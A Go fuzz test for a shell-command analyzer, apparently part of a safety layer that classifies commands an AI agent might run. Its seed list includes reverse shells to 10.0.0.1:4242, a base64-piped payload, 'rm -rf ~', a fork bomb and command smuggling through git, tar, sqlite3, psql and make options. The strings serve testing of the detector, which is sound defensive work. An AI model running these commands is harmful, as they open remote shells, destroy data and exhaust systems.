package shell

import (
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/safeclaw/safeclaw/action"
)

// FuzzAnalyze checks that Analyze never panics, keeps its invariants, and
// reports nothing as harmless that it could not read: every part has facets
// of known kinds, and a text the shell cannot parse is opaque. Run it with
//
//	go test -run=- -fuzz=FuzzAnalyze ./shell
func FuzzAnalyze(f *testing.F) {
	seeds := []string{
		"python3 -m http.server 8080",
		"cd /srv && python -m http.server 9000",
		"bash -c 'git status; rm -rf ~'",
		"sudo -u www nc -l 80",
		"env FOO=1 ngrok http 3000",
		"xargs -I{} python3 -m {} <<< http.server",
		"find . -exec python3 -m http.server \\;",
		"git -c core.pager='sh -c id' log",
		"tar -xf a.tar --to-command='nc -l 1' --checkpoint-action=exec=id",
		"sqlite3 db '.shell id' '.output |sh'",
		"psql -c '\\! id' -c '\\o |sh'",
		"make --eval=$'x:\\n\\tid' x",
		"git rebase --exec id HEAD~1 && git submodule foreach 'id'",
		"bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
		"exec 5<>/dev/tcp/h/1; sh <&5 >&5",
		"mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4242 > /tmp/f",
		"echo aGVsbG8= | base64 -d | sh",
		"p=python3; $p -m http.server",
		"cat > s.py <<EOF\nimport http.server\nEOF\npython3 s.py",
		"sh <<-'X'\n\tnc -l 1\n\tX",
		"ssh h 'sudo bash -c \"nc -l 1\"'",
		"parallel ::: 'nc -l 1' ls",
		"{a,b}{c,d}{e,f} {1..9}",
		"echo $'\\x41\\u00e9\\0101'",
		"zmodload zsh/net/tcp; ztcp h 1; zsh >&$REPLY 0>&$REPLY",
		"f() { f | f & }; f",
		"'unterminated",
		strings.Repeat("$(", 10000) + "x" + strings.Repeat(")", 10000),
		strings.Repeat("bash -c ", 50) + "x",
		strings.Repeat("eval ", 100) + "x",
		strings.Repeat("sudo ", 200) + "nc -l 1",
		strings.Repeat("a | ", 2000) + "sh",
		strings.Repeat("x", 1<<20),
		strings.Repeat("echo {a,b}{c,d}{e,f}{g,h}{i,j}{k,l}{m,n} ", 50),
	}
	for _, s := range seeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, text string) {
		parts := Analyze(text, Env{Cwd: "/fuzz", Home: "/home/fuzz"})
		checkInvariants(t, text, parts)
		if len(parts) > maxParts+1 {
			t.Fatalf("%d parts", len(parts))
		}
		for _, p := range parts {
			for _, fc := range p.Facets {
				if fc.Kind == action.ShellOpaque && !utf8.ValidString(fc.Detail) && utf8.ValidString(text) {
					t.Fatalf("detail is not valid UTF-8: %q", fc.Detail)
				}
			}
		}
	})
}
